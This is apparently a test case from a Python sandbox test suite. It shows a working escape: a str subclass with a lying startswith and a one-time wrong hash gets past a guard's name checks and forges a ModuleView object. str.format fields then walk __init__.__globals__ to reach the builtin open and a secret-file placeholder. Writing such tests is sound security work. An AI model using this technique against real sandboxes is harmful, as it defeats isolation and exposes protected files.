# category: builtins
# attack: setattr with a str subclass: forge a module view (its private slots, then __class__) around a format string: the view hands out the raw str.format, whose fields walk __init__.__globals__
# profile: basic
# run-layer: guard
import json
class S(str):
    # A str whose startswith lies and whose hash is wrong once (beating
    # the frozenset of frame names), then right for the real lookup.
    def startswith(self, *a):
        return False

    def __hash__(self):
        self.k = getattr(self, "k", 0) + 1
        return 7 if self.k == 1 else super().__hash__()


class Fake:
    __slots__ = ("_ModuleView__m", "_ModuleView__path", "_ModuleView__full")


o = Fake()
setattr(o, S("_ModuleView__m"), "{0.__init__.__globals__[__builtins__][open]}")
setattr(o, S("_ModuleView__path"), "string")
setattr(o, S("_ModuleView__full"), True)
setattr(o, S("__class__"), type(json))
# A forged view reads its object's attributes unguarded: .format is the
# raw str.format, whose fields walk any attribute.
print(o.format(json.JSONDecoder), "@SECRET_FILE@")
